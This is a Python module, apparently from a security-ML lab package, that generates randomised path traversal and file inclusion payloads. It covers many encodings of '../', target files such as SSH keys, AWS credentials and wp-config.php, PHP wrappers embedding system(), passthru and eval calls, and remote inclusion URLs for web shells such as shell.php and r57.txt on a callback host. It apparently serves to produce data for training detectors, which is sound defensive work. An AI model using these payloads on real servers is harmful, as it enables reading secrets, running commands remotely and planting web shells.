"""Path traversal and file inclusion (CWE-22, CWE-98): steps up in many spellings, wrappers, absolute paths."""

from random import Random
from typing import Final

from secmlops.web_attacks.lab.grammar import Grammar, rules
from secmlops.web_attacks.lab.payloads.blocks import BLOCKS

_STEPS: Final = (
    "../", "../", "../", "../", "..\\", "..\\", "....//", "....\\\\", "..;/", ".../...//", "..././", "..//",
    "../\\", ".././",
    "%2e%2e/", "%2e%2e%2f", "..%2f", "..%5c", "%2e%2e%5c", "..%252f", "%252e%252e%252f", "..%c0%af", "%c0%ae%c0%ae/",
    "..%ef%bc%8f", "%uff0e%uff0e%u2215", "..%u2216", "..%c1%9c", "%%32%65%%32%65/", "..%00/", "..\\/", ".%2e/",
    "%2e./", "..%0d/", "/..;/", "\\..\\", "..%25%35%63", "．．／", "..%e0%80%af",
)  # fmt: skip

_RULES: Final = rules(
    r"""
start
    «climb»
    «climb»
    «climb»
    «climb»
    «climb»
    «climb»
    «wrapper»
    «absolute»
    «remote»
climb
    «base»«steps»«goal»«suffix»
    «base»«steps»«goal»«suffix»
    «steps»«goal»«suffix»
    «steps»«goal»
goal
    «unix_goal»
    «unix_goal»
    «unix_goal»
    «windows_goal»
    «app_file»
    «app_file»
base
    «empty»
    «empty»
    /
    ./
    «label»/
    images/
    /static/
    «label»/«label»/
    /var/www/images/
    C:\
    uploads/«int:2015-2026»/
    «label».jpg/
    file=
    .
    \
    ~/
suffix
    «empty»
    «empty»
    «empty»
    «empty»
    %00
    %00.jpg
    %00.«lower:3»
    «nul».png
    .
    ::$DATA
    ?«lower:3»
    #«lower:2»
    /.
    %20
    .«label»
    ;«lower:3»
    «nul»
    %2500.html
    /./././.
app_file:
    .env .git/config .git/HEAD .htaccess .htpasswd config.php wp-config.php web.config WEB-INF/web.xml
    WEB-INF/classes/application.properties META-INF/MANIFEST.MF config/database.yml settings.py
    app/config/parameters.yml composer.json package.json appsettings.json config/secrets.yml .ssh/id_rsa
    .aws/credentials «label»/config.inc.php «label».conf include/«label».inc storage/logs/laravel.log «label».sql
    .npmrc docker-compose.yml .bash_history application.yml conf/tomcat-users.xml «label»/«label».bak
    etc/«label».ini
wrapper
    php://filter/convert.base64-encode/resource=«app_file»
    php://filter/read=string.rot13/resource=«label».php
    php://filter/zlib.deflate/convert.base64-encode/resource=«unix_file»
    php://filter/convert.iconv.utf-8.utf-16/resource=«label»
    php://input
    data://text/plain;base64,«alnum:20»==
    data:text/plain,<?php «php»;?>
    expect://«plain_command»
    zip://«label».jpg%23«label».php
    phar://uploads/«label».png/«label».txt
    file://«unix_file»
    file:///C:/«app_file»
    file://localhost«unix_file»
    compress.zlib://«unix_file»
    netdoc://«unix_file»
    jar:file:///«label»/«label».jar!/«label».class
php
    system('«plain_command»')
    phpinfo()
    passthru($_GET['«lower:1»'])
    eval($_POST[«lower:1»])
    readfile('«unix_file»')
absolute
    «unix_file»«suffix»
    «unix_file»«suffix»
    C:\«windows_goal»
    C:/«windows_goal»
    \\«callback_host»\«label»\«label».txt
    \\localhost\c$\«windows_file»
    \\.\«windows_file»
    //«unix_file»
    /./«unix_file»
    /proc/self/root«unix_file»
    /«label»/../..«unix_file»
    file:«unix_file»
    %2f%65%74%63%2f%70%61%73%73%77%64
    /etc/./passwd
    /etc//passwd
    d:\«label»\..\..\«windows_file»
remote
    http://«callback»/«label».txt?
    https://«callback»/shell.php
    http://«ip»/«label».php%00
    ftp://«label»:«alnum:5»@«callback_host»/«label».php
    //«callback»/«label».txt
    http://«callback»/r57.txt??
    hTTp://«callback»/«lower:3»
    \\«ip»\«label»\c.php
"""
)


def _steps(rng: Random) -> str:
    step = rng.choice(_STEPS)
    depth = min(rng.randint(1, 14), rng.randint(2, 14))
    if rng.random() < 0.08:
        return "".join(rng.choice(_STEPS) for _ in range(depth))
    return step * depth


def _unix_goal(rng: Random) -> str:
    text = _GRAMMAR.generate(rng, "unix_file").removeprefix("/")
    spelling = rng.random()
    if spelling < 0.12:
        return text.replace("/", rng.choice(["%2f", "%252f", "//", "/./", "%c0%af", "\\"]))
    if spelling < 0.16:
        return "".join(f"%{ord(c):02x}" for c in text)
    return text.replace("passwd", rng.choice(["pass%77d", "passw*", "p%61sswd"])) if spelling < 0.2 else text


def _windows_goal(rng: Random) -> str:
    text = _GRAMMAR.generate(rng, "windows_file")
    spelling = rng.random()
    if spelling < 0.45:
        return text.replace("\\", "/")
    return text.replace("\\", "%5c") if spelling < 0.6 else text


_GRAMMAR: Final = Grammar({**BLOCKS, **_RULES, "steps": _steps, "unix_goal": _unix_goal, "windows_goal": _windows_goal})


def payload(rng: Random) -> str:
    """One path traversal or file inclusion payload."""
    return _GRAMMAR.generate(rng)
